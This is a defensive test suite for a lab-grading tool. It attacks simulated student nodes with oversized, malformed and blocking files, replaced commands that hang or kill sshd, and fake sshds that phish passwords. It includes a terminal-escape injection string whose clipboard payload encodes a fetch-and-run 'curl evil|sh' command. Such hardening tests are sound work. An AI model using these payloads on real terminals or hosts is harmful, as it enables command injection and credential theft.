/**
 * A hostile or broken node cannot hurt the class (issue 7). Students are root on their nodes: one
 * simulated class (real sshd, real files), every attack on a different student, plus fake sshds for the
 * protocol-level attacks, all graded in one run (days 1 and 2 together, in this process so that its
 * event loop and memory can be watched). For each attack: that node's verdicts are fail or error with a
 * reason; every other student is graded as the untouched one; every report is written and valid
 * (xmllint); the event loop never blocks over 1 s; peak RSS stays bounded.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { nodeReport, classSummary } from '../../src/cli/print.ts';
import { terminalSafe } from '../../src/cli/out.ts';
import { gradeDirect, loadDay } from '../../src/grade/direct.ts';
import { loadPlanFromEnv } from '../../src/grade/plan.ts';
import type { CheckResult, RunResults } from '../../src/grade/types.ts';
import { labDown, labUp, type Lab } from '../../src/lab/index.ts';
import { labSlot } from '../../src/lab/paths.ts';
import { parseCsv } from '../../src/report/csv.ts';
import { readResultsJson } from '../../src/report/results-json.ts';
import { writeAll } from '../../src/report/vitest-reporter.ts';
import { SshTransport } from '../../src/transport/ssh.ts';
import type { Transport } from '../../src/transport/types.ts';
import { TEST_LAB_DIR } from '../lab/helpers.ts';
import { ROOT } from '../checks/helpers.ts';
import * as fake from './fake-sshd.ts';

const PASSWORD = 'class-root-password-7f3a';
const ESC_TEXT = 'bye \u001b]52;c;Y3VybCBldmlsfHNo\u0007 \u001b]8;;http://evil\u001b\\click\u001b]8;;\u001b\\ \u001b[1A\u001b[2K\rs07 11/11 all passed';

/** Bash that writes a file of `n` bytes of one character, fast (no shell loop). */
const fill = (n: number, octal: string) => `head -c ${n} /dev/zero | tr '\\0' '\\${octal}'`;
/** Replaces a command for every shell the node starts for a login (exported function: survives `env PATH=...`). */
const replace = (tool: string, script: string) =>
  `mkdir -p /root/bin && cat > /root/bin/${tool} <<'LGEOF'\n#!/bin/bash\n${script}\nLGEOF\nchmod +x /root/bin/${tool}\n` +
  `printf '%s\\n' '${tool}() { /root/bin/${tool} "$@"; }' 'export -f ${tool}' >> /root/.bashrc`;

interface Attack {
  student: string;
  what: string;
  setup: string;
  stdin?: string;
  /**
   * How node1's verdicts differ from the untouched student's node1 (`check was->now`): exactly these, or
   * (a pattern) at least one and each matching. Every other check must be graded exactly the same.
   */
  changes: string[] | RegExp;
  /**
   * Checks whose verdict on this content belongs to the parser's reader rule (src/probes, tested there):
   * they may also go pass->fail, never to error.
   */
  mayFail?: string[];
}

const ATTACKS: Attack[] = [
  { student: 's02', what: 'sysctl.d glob line of 30 stars (backtracking)', setup: `printf '%s\\n' '${'*'.repeat(30)}x = 1' > /etc/sysctl.d/90-stars.conf`, changes: [], mayFail: ['d2.ip-forward'] },
  { student: 's03', what: 'selinux config SELINUX=x + 200k spaces + y', setup: `{ printf 'SELINUX=x'; ${fill(200_000, '040')}; printf 'y\\n'; } > /etc/selinux/config`, changes: [], mayFail: ['d2.selinux'] },
  { student: 's04', what: 'baseurl of 200k slashes', setup: `{ printf '[evil]\\nname=e\\nbaseurl=http://x'; ${fill(200_000, '057')}; printf '\\nenabled=1\\n'; } > /etc/yum.repos.d/slashes.repo`, changes: [], mayFail: ['d2.libcontainers-repo', 'd2.crio-repo', 'd2.k8s-repo'] },
  { student: 's05', what: '4 MB .repo of 2M lines', setup: `yes x | head -n 2000000 > /etc/yum.repos.d/lines.repo`, changes: ['d2.libcontainers-repo pass->error(output-cap)', 'd2.crio-repo pass->error(output-cap)', 'd2.k8s-repo pass->error(output-cap)'] },
  { student: 's06', what: '1 MB .repo of junk lines', setup: `yes 'not a key value line [x' | head -c 1048576 > /etc/yum.repos.d/junk.repo`, changes: [], mayFail: ['d2.libcontainers-repo', 'd2.crio-repo', 'd2.k8s-repo'] },
  {
    student: 's07',
    what: 'escape sequences (OSC 52, OSC 8, CSI, \\r) in /etc/hosts and registries.conf',
    setup: `IFS= read -r l; printf '%s\\n' "$l" >> /etc/hosts; cat > /etc/containers/registries.conf`,
    stdin: `192.168.90.110 ${ESC_TEXT} control1\nunqualified-search-registries = ["${ESC_TEXT}"]\n`,
    changes: [], mayFail: ['d2.hosts'],
  },
  { student: 's08', what: "sysctl key 'foo['", setup: `printf 'foo[ = 1\\nnet.ipv4.ip_forward = 1\\n' > /etc/sysctl.d/91-bad.conf`, changes: [], mayFail: ['d2.ip-forward'] },
  { student: 's09', what: '1.5 MB of 0xFF bytes in /etc/hosts', setup: `${fill(1_500_000, '377')} >> /etc/hosts`, changes: [], mayFail: ['d2.hosts'] },
  {
    student: 's10',
    what: 'podman replaced: prints 10 MB of nested JSON',
    setup: replace('podman', `${fill(5_000_000, '133')}; ${fill(5_000_000, '135')}`),
    changes: ['d1.image fail->error(output-cap)', 'd1.publish blocked->error(output-cap)', 'd1.port blocked->error(output-cap)', 'd1.network fail->error(output-cap)', 'd1.pod blocked->error(output-cap)', 'd1.pod-containers blocked->error(output-cap)'],
  },
  {
    student: 's11',
    what: 'podman replaced: never exits, ignores SIGTERM',
    setup: replace('podman', `trap '' TERM HUP INT\nwhile :; do sleep 1; done`),
    changes: ['d1.image fail->error(timeout)', 'd1.publish blocked->error(timeout)', 'd1.port blocked->error(timeout)', 'd1.network fail->error(timeout)', 'd1.pod blocked->error(timeout)', 'd1.pod-containers blocked->error(timeout)'],
  },
  {
    student: 's12',
    what: 'invalid UTF-8 split across reads (getenforce)',
    setup: replace('getenforce', `printf 'Enf\\303'; sleep 0.4; printf '\\050orc\\355'; sleep 0.4; printf '\\240\\200ing\\355'; sleep 0.4; printf '\\225\\234\\n'`),
    changes: ['d2.selinux pass->fail'],
  },
  { student: 's13', what: 'NUL bytes in sysctl.d and /etc/hosts', setup: `printf 'net.ipv4.ip_forward = 1\\0\\0\\n\\0' > /etc/sysctl.d/92-nul.conf; printf '\\0\\000127.0.0.1 x\\0\\n' >> /etc/hosts`, changes: [], mayFail: ['d2.ip-forward', 'd2.hosts'] },
  { student: 's14', what: 'registries.conf is a FIFO (reading blocks)', setup: `rm -f /etc/containers/registries.conf && mkfifo /etc/containers/registries.conf`, changes: [] },
  { student: 's15', what: 'symlink loop in yum.repos.d', setup: `ln -s loop-b.repo /etc/yum.repos.d/loop-a.repo; ln -s loop-a.repo /etc/yum.repos.d/loop-b.repo`, changes: [], mayFail: ['d2.libcontainers-repo', 'd2.crio-repo', 'd2.k8s-repo'] },
  { student: 's16', what: '1 GB sparse .repo file', setup: `truncate -s 1G /etc/yum.repos.d/sparse.repo`, changes: ['d2.libcontainers-repo pass->error(output-cap)', 'd2.crio-repo pass->error(output-cap)', 'd2.k8s-repo pass->error(output-cap)'] },
  { student: 's17', what: '100k sysctl.d drop-in files', setup: `cd /etc/sysctl.d && seq -f 'z%06g.conf' 100000 | xargs touch`,
    // the node takes minutes to list them: the batch times out, the probes after sysctl's with it
    changes: /^d2\.[a-z-]+ pass->error\(timeout\)$/ },
  {
    student: 's18',
    what: 'closes the connection mid-script (getenforce kills its sshd)',
    setup: replace('getenforce', `p=$$; while [ "$p" -gt 1 ]; do c=$(cat /proc/$p/comm); case $c in sshd*) kill -9 $p; exit;; esac; p=$(awk '/^PPid:/ {print $2}' /proc/$p/status); done`),
    // day 2's connection is the one cut (getenforce runs there): all of its checks, day 1 untouched
    changes: /^d2\.[a-z0-9-]+ (pass|fail|blocked)->error\(unreachable\)$/,
  },
];

const STUDENTS = 1 + ATTACKS.length;
const COMMAND_TIMEOUT_S = 60;

const FAKE_WHAT: Record<string, string> = {
  x01: 'fake sshd: 1 MB banner (10k lines with escapes) before its identification',
  x02: 'fake sshd: authenticates, never answers the exec channel-open',
  x03: 'fake sshd: DISCONNECT whose text is OSC 52 / OSC 8 / CSI / \\r',
  x04: 'fake sshd: keyboard-interactive password capture (OTP, echoed, double prompts)',
};

let lab: Lab;
let fakes: Record<string, fake.FakeSshd>;
let day1: RunResults;
let day2: RunResults;
let reports: string;
let gradeMs = 0;
let maxLoopDelayMs = 0;
let loopGradeMs = 0;
let longestGap = { ms: 0, cpuMs: 0 };
let busiestGapMs = 0;
let loopP99Ms = 0;
let peakRssMb = 0;
let baseRssMb = 0;
const nodeMs = new Map<string, number>();
let strictCaptured: string[] = [];
let strictKind: string | undefined;

function resultsOf(r: RunResults, student: string, node?: string): CheckResult[] {
  return r.results.filter((x) => x.student === student && (!node || x.node === node));
}

/** Records how long each node took, from its transport's open to its close. */
function timed(open: () => Transport, key: string): () => Transport {
  return () => {
    const t0 = Date.now();
    const t = open();
    const close = t.close.bind(t);
    t.close = async () => {
      nodeMs.set(key, Date.now() - t0);
      return close();
    };
    return t;
  };
}

beforeAll(async () => {
  await labDown(TEST_LAB_DIR).catch(() => undefined);
  lab = await labUp({ students: STUDENTS, state: 'fresh', dir: TEST_LAB_DIR });
  // node1 of every student solved for day 2 (node2/3 fresh), so an attack has passing checks to break and
  // the checks it does not touch must still pass exactly as on the untouched student's node1
  const pending = Array.from({ length: STUDENTS }, (_, i) => `s${String(i + 1).padStart(2, '0')}`);
  await Promise.all(
    Array.from({ length: 6 }, async () => {
      for (let s = pending.shift(); s; s = pending.shift()) await lab.solve(lab.node(s, 'node1'), 2);
    }),
  );
  await Promise.all(ATTACKS.map((a) => lab.exec(lab.node(a.student, 'node1'), a.setup, a.stdin).then((r) => {
    if (r.code !== 0) throw new Error(`setting up ${a.student} (${a.what}) failed: ${r.stderr}`);
  })));

  // The fake sshds: 127.66.<slot>.x (issue 10 owns 127.66.0.x).
  const base = `127.66.${labSlot()}`;
  fakes = {
    x01: await fake.bannerFlood(`${base}.1`),
    x02: await fake.silentChannels(`${base}.2`),
    x03: await fake.hostileDisconnect(`${base}.3`, ESC_TEXT),
    x04: await fake.passwordCapture(`${base}.4`),
  };
  const roster = parse(readFileSync(lab.rosterPath, 'utf8')) as { students: unknown[] };
  for (const [id, f] of Object.entries(fakes)) {
    roster.students.push({ id, nodes: { node1: { host: f.host, port: f.port, ...(id === 'x04' ? { passwordEnv: 'LG_HOSTILE_PW' } : {}) } } });
  }
  const rosterPath = join(TEST_LAB_DIR, 'hostile-roster.yaml');
  writeFileSync(rosterPath, stringify(roster));

  process.env.LG_HOSTILE_PW = PASSWORD;
  process.env.LABGRADE_SSH_PASSWORD = PASSWORD; // every node could be asked; only a real password prompt may get it
  process.env.LABGRADE_PROGRESS = 'off';
  // 8 nodes at a time with a 60 s command budget: the simulated nodes share this machine's 2 cores with the
  // grader, and a solved node's day-2 batch (some 40 stand-in processes) overran 30 s at 32 nodes at a time.
  // The attacks that hang are bounded by the same budget, whatever it is.
  const plan = loadPlanFromEnv({
    ...process.env,
    LABGRADE_ROSTER: rosterPath,
    LABGRADE_COMMAND_TIMEOUT: String(COMMAND_TIMEOUT_S),
    LABGRADE_CONNECT_TIMEOUT: '8',
    LABGRADE_CONCURRENCY: '8',
  });
  const d1 = await loadDay(join(ROOT, 'checks/day1.spec.ts'));
  const d2 = await loadDay(join(ROOT, 'checks/day2.spec.ts'));
  const planFor = (day: number) => ({ ...plan, nodes: plan.nodes.map((n) => ({ ...n, open: timed(n.open, `d${day} ${n.student}/${n.node}`) })) });

  reports = mkdtempSync(join(tmpdir(), 'lg-hostile-'));
  const loop = monitorEventLoopDelay({ resolution: 10 });
  baseRssMb = process.memoryUsage().rss / 2 ** 20;
  peakRssMb = baseRssMb;
  let last = { at: performance.now(), cpu: process.cpuUsage() };
  const sampler = setInterval(() => {
    peakRssMb = Math.max(peakRssMb, process.memoryUsage().rss / 2 ** 20);
    // the longest gap between two ticks, and how much of it this process spent on a CPU: a gap with
    // little CPU is this machine's other load (not scheduled), not the grader blocking its own loop
    const now = { at: performance.now(), cpu: process.cpuUsage() };
    const gap = now.at - last.at;
    const cpuMs = (now.cpu.user + now.cpu.system - last.cpu.user - last.cpu.system) / 1000;
    if (gap > longestGap.ms) longestGap = { ms: gap, cpuMs };
    // time the loop was held by this process's own work (CPU of every thread: an upper bound)
    busiestGapMs = Math.max(busiestGapMs, Math.min(gap, cpuMs));
    last = now;
  }, 50);
  loop.enable();
  const t0 = Date.now();
  try {
    // one day after the other, as an instructor grades them: both at once put 2 x 32 nodes' probes on this
    // machine's 2 cores (the simulated nodes share them), and a solved node's day-2 batch then overran its 30 s
    day1 = await gradeDirect(d1, planFor(1));
    day2 = await gradeDirect(d2, planFor(2));
    loopGradeMs = loop.max / 1e6;
    await writeAll(day1, reports);
    await writeAll(day2, reports);
  } finally {
    gradeMs = Date.now() - t0;
    loop.disable();
    clearInterval(sampler);
    peakRssMb = Math.max(peakRssMb, process.memoryUsage().rss / 2 ** 20);
    maxLoopDelayMs = loop.max / 1e6;
    loopP99Ms = loop.percentile(99) / 1e6;
    delete process.env.LABGRADE_SSH_PASSWORD;
  }

  // Strict host keys: a server whose key is unknown gets nothing, not even a password it asks for.
  const asker = await fake.passwordAsker(`${base}.5`);
  const t = new SshTransport(
    { alias: asker.host, host: asker.host, port: asker.port, user: 'root', identities: [], passwordEnv: 'LG_HOSTILE_PW' },
    { knownHosts: join(reports, 'strict_known_hosts'), hostKeyMode: 'strict', connectTimeoutMs: 4000 },
  );
  strictKind = await t.connect().then(
    () => 'connected',
    (e: { kind?: string }) => e.kind,
  );
  await t.close();
  strictCaptured = [...asker.captured];
  await asker.close();
}, 900_000);

afterAll(async () => {
  // The closing note's table: time per attacked node, verdicts, and the run's totals.
  const rows = [...ATTACKS.map((a) => [a.student, a.what] as const), ...Object.keys(fakes ?? {}).map((id) => [id, FAKE_WHAT[id] ?? id] as const)];
  const lines = rows.map(([s, what]) => {
    const ms = Math.max(nodeMs.get(`d1 ${s}/node1`) ?? 0, nodeMs.get(`d2 ${s}/node1`) ?? 0);
    const v = [...(day1 ? resultsOf(day1, s, 'node1') : []), ...(day2 ? resultsOf(day2, s, 'node1') : [])];
    const count = (st: string) => v.filter((x) => x.status === st).length;
    const kinds = [...new Set(v.filter((x) => x.status === 'error').map((x) => x.error?.kind))].join(',');
    const diff = day1 && day2 ? changedFromControl(s).join(', ') : '';
    return `| ${s} | ${what} | ${(ms / 1000).toFixed(1)} s | fail ${count('fail')} blocked ${count('blocked')} error ${count('error')}${kinds ? ` (${kinds})` : ''} pass ${count('pass')} | ${diff} |`;
  });
  console.log(
    [`hostile class: grading + reports ${(gradeMs / 1000).toFixed(1)} s, event loop delay max ${maxLoopDelayMs.toFixed(0)} ms, p99 ${loopP99Ms.toFixed(0)} ms, longest own-CPU stretch ${busiestGapMs.toFixed(0)} ms (${loopGradeMs.toFixed(0)} ms while grading; longest tick gap ${longestGap.ms.toFixed(0)} ms of which ${longestGap.cpuMs.toFixed(0)} ms CPU), RSS ${baseRssMb.toFixed(0)} -> peak ${peakRssMb.toFixed(0)} MB`, ...lines].join('\n'),
  );
  for (const f of Object.values(fakes ?? {})) await f.close();
  delete process.env.LG_HOSTILE_PW;
  if (reports) rmSync(reports, { recursive: true, force: true });
  rmSync(join(TEST_LAB_DIR, 'hostile-roster.yaml'), { force: true });
  await labDown(TEST_LAB_DIR);
}, 300_000);

const days = (): RunResults[] => [day1, day2];

/** node1's checks whose status differs from the untouched student's node1: `d2.hosts pass->fail`. */
function changedFromControl(student: string): string[] {
  const out: string[] = [];
  for (const r of days()) {
    const control = new Map(resultsOf(r, 's01', 'node1').map((x) => [x.checkId, x.status]));
    for (const x of resultsOf(r, student, 'node1')) {
      const was = control.get(x.checkId);
      if (was !== x.status) out.push(`${x.checkId} ${was}->${x.status}${x.status === 'error' ? `(${x.error?.kind})` : ''}`);
    }
  }
  return out;
}

describe('the grader stays responsive and bounded', () => {
  it('the event loop never blocked over 1 s', () => {
    // monitorEventLoopDelay's max also counts time this process was not scheduled at all (CI and this
    // machine share 2 cores with other jobs: a 1.1 s gap with 89 ms of CPU was seen). Blocking is the
    // loop held by our own work: no gap between two 50 ms ticks held more than 1 s of this process's CPU.
    expect(busiestGapMs).toBeLessThan(1000);
    expect(loopP99Ms).toBeLessThan(1000);
  });

  it('peak RSS stays bounded (under 600 MB above the start)', () => {
    expect(peakRssMb - baseRssMb).toBeLessThan(600);
  });

  it('the whole class is graded within the timeouts (no node holds the run)', () => {
    // 60 s command timeout, 8 s connect timeout: nothing may wait for a node for ever (two days of 61 nodes,
    // 8 at a time, the hanging ones bounded by the timeouts)
    expect(gradeMs).toBeLessThan(600_000);
  });
});

describe('every attacked node: what it broke is fail or error, each with a reason', () => {
  it.each([...ATTACKS.map((a) => a.student), 'x01', 'x02', 'x03', 'x04'])('%s', (student) => {
    for (const r of days()) {
      const rows = resultsOf(r, student, 'node1');
      expect(rows.length).toBeGreaterThan(0);
      for (const x of rows) {
        if (x.status === 'fail') expect(x.found, `${x.checkId}`).toBeTruthy();
        if (x.status === 'error') expect(x.error?.message, `${x.checkId}`).toBeTruthy();
        if (x.status === 'blocked') expect(x.blockedBy).toBeTruthy();
        // bounded whatever the node sent
        expect((x.found ?? '').length).toBeLessThan(2100);
        expect((x.error?.message ?? '').length).toBeLessThan(2100);
      }
    }
  });

  it.each(ATTACKS.map((a) => [a.student, a.what, a.changes] as const))(
    '%s (%s): only what the attack broke differs from the untouched node1',
    (student, _what, changes) => {
      const got = changedFromControl(student);
      if (changes instanceof RegExp) {
        expect(got.length, 'something changed').toBeGreaterThan(0);
        for (const c of got) expect(c).toMatch(changes);
        return;
      }
      const may = new Set((ATTACKS.find((a) => a.student === student)?.mayFail ?? []).map((c) => `${c} pass->fail`));
      expect(got.filter((c) => !may.has(c)).sort()).toEqual([...changes].sort());
    },
  );

  it('a node that closes the connection mid-script is its own infrastructure error', () => {
    const n = day2.students.find((s) => s.id === 's18')!.nodes.find((x) => x.name === 'node1')!;
    expect(n.infra?.kind).toBe('unreachable');
  });

  it('protocol attacks end as infrastructure errors of their node, quickly', () => {
    const infra = (id: string) => day1.students.find((s) => s.id === id)!.nodes[0]!.infra;
    expect(infra('x01')?.kind).toBe('protocol'); // 1 MB banner
    expect(infra('x02')?.kind).toBe('timeout'); // never answers channel-open
    expect(infra('x03')?.kind).toBe('protocol'); // DISCONNECT with escapes
    expect(infra('x03')?.message).toContain('\u001b]52'); // kept as data in the reports ...
    expect(infra('x04')?.kind).toBe('auth');
    for (const id of ['x01', 'x03', 'x04']) expect(nodeMs.get(`d1 ${id}/node1`), id).toBeLessThan(8_000);
    expect(nodeMs.get('d1 x02/node1')).toBeLessThan((COMMAND_TIMEOUT_S + 15) * 1000);
  });
});

describe('passwords', () => {
  it('keyboard-interactive phishing (OTP, echoed, double prompts) never gets the password', () => {
    expect(fakes.x04!.captured.length).toBeGreaterThan(0);
    expect(fakes.x04!.captured).not.toContain(PASSWORD);
  });

  it('strict host keys: a server whose key is unknown gets nothing, even asking for a password', () => {
    expect(strictKind).toBe('hostkey-unknown');
    expect(strictCaptured).toEqual([]);
  });
});

describe('the rest of the class is graded as if nothing happened', () => {
  it('the untouched student: no error anywhere', () => {
    for (const r of days()) expect(resultsOf(r, 's01').filter((x) => x.status === 'error')).toEqual([]);
  });

  it.each(ATTACKS.map((a) => a.student))('%s: node2 and node3 graded exactly as the untouched student', (student) => {
    for (const r of days()) {
      for (const node of ['node2', 'node3']) {
        const want = resultsOf(r, 's01', node).map((x) => `${x.checkId} ${x.status} ${x.score}`);
        const got = resultsOf(r, student, node).map((x) => `${x.checkId} ${x.status} ${x.score}`);
        expect(got, `${student}/${node}`).toEqual(want);
      }
    }
  });
});

describe('reports: all written, valid, bounded', () => {
  it.each([1, 2])('day %i: junit.xml and every student file pass xmllint; results.json and grades.csv read back', (day) => {
    const dir = join(reports, `day${day}`);
    execFileSync('xmllint', ['--noout', join(dir, 'junit.xml')]);
    const students = readdirSync(join(dir, 'students'));
    expect(students).toHaveLength(STUDENTS + 4);
    for (const f of students) execFileSync('xmllint', ['--noout', join(dir, 'students', f)]);
    const r = readResultsJson(readFileSync(join(dir, 'results.json'), 'utf8'));
    expect(r.students).toHaveLength(STUDENTS + 4);
    expect(parseCsv(readFileSync(join(dir, 'grades.csv'), 'utf8'))).toHaveLength(STUDENTS + 4 + 1);
    expect(statSync(join(dir, 'summary.html')).size).toBeGreaterThan(0);
    expect(statSync(join(dir, 'summary.md')).size).toBeGreaterThan(0);
  });

  it('sizes follow the class, not the files students made (MBs of repo lines, 1 GB sparse file)', () => {
    const per = STUDENTS + 4;
    for (const day of [1, 2]) {
      expect(statSync(join(reports, `day${day}`, 'junit.xml')).size).toBeLessThan(per * 100_000);
      expect(statSync(join(reports, `day${day}`, 'results.json')).size).toBeLessThan(per * 3 * 14 * 70_000);
    }
  });

  it('what the terminal shows carries no escape sequence or \\r from any node', () => {
    for (const r of days()) {
      for (const text of [classSummary(r, 1), nodeReport(r, 'en')]) {
        const shown = terminalSafe(text);
        expect(shown).not.toMatch(/[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/);
        expect(shown).toContain('\\x1b]52');
      }
    }
  });
});
